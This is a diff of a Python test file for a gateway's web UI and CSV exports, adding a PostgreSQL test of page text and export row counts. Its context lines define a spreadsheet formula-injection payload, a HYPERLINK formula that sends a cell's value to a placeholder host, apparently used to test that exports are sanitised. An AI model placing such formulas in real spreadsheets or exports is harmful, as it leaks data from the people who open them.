@@ -12,7 +12,7 @@ from privee.gateway.ledger.quotas import Quotas
 from privee.gateway.ui import export_tables
 from privee.gateway.ui.csv_text import csv_text
 from privee.gateway.ui.export_tables import EXPORTS
-from tests._support.local_gateway import Local, visitor
+from tests._support.local_gateway import Local, text_of, visitor
 
 EVIL = '=HYPERLINK("http://x.example/?"&A1)'
 MARKS = "=+-@\uff1d\uff0b\uff0d\uff20"
@@ -69,6 +69,23 @@ def test_every_table_is_there_whole_whatever_the_pieces(local, used, piece, monk
     assert get["entity-consumers"] == []
     assert [one["what"] for one in get["acts"]] == ["Key made", "Entity reset", "Key made", "Key made"]
     assert get["acts"][1]["reason"] == "'+49 said so"
+
+
+def test_pages_and_files_on_postgresql(folder, tmp_path, postgres_url):
+    with Local(folder, tmp_path, url=postgres_url) as local, visitor(local.url, local.key()) as client:
+        record = local.service.keys.create(
+            "web", "consumer", ["*"], actor="test", quotas=Quotas.parse("8/day", "4/day")
+        )
+        key_id = record.record.id
+        ask(local, key_id, "17", "42")
+        tag = local.service.ledger.spent("17").tag
+        query = f"?consumer={key_id}&outcome=released&entity={tag}"
+        page = text_of(client.get(f"/ui{query}").text)
+        assert "1 request in the last 24 hours: 1 answered with 2 releases, 0 refused." in page
+        assert f"web {key_id} 1 0 2 50 % 2 of 4/day entities 20" in page
+        assert client.get(f"/ui/consumers/{key_id}").status_code == 200
+        counts = {name: len(rows(client.get(f"/ui/export/{name}.csv{query}"))) for name in EXPORTS}
+    assert counts == dict.fromkeys(EXPORTS, 1) | {"acts": 2}
 
 
 def test_filters_are_applied(local, used):
